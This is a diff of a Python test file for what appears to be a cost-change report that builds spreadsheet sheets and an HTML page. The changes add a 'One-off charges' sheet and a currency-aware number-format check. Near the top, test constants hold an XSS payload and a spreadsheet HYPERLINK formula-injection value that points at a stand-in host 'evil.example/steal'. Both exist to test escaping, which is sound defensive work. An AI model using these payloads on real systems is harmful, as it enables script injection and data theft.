@@ -40,7 +40,7 @@ from tests.include.loader_support import (
 
 XSS_NAME = "<img src=x onerror=alert(1)>"
 FORMULA_NAME = '=HYPERLINK("http://evil.example/steal","Müller & Söhne GmbH")'
-SHEETS = ["Summary", "Changes", "Creates", "Left to do", "Verification"]
+SHEETS = ["Summary", "Changes", "Creates", "Left to do", "One-off charges", "Verification"]
 
 
 class PageParser(HTMLParser):
@@ -491,7 +491,10 @@ def test_a_dry_run_lists_an_earlier_approved_change_and_the_runs_proposed_ones_a
     assert reasons == ["approved; a load would write it", "proposed; a load would write it once approved"]
     (total,) = totals_rows
     assert total["Monthly cost removed"].value == pytest.approx(28.5)
-    assert all(row["Unit cost after"].number_format == "#,##0.00##" for row in changes)
+    # numeric cells in the line's currency (none known here: no BSS line), up to 4 places for a unit cost
+    for row in changes:
+        named = f' "{row["Currency"].value}"' if row["Currency"].value else ""
+        assert row["Unit cost after"].number_format == f"#,##0.00##{named};-#,##0.00##{named};#,##0.00##{named}"
     page = parse_html(report.html_path)
     assert "Dry run: nothing approved, nothing loaded" in page.fields["approval"]
     assert "7.125" in page.all_text and "−28.50" in page.all_text
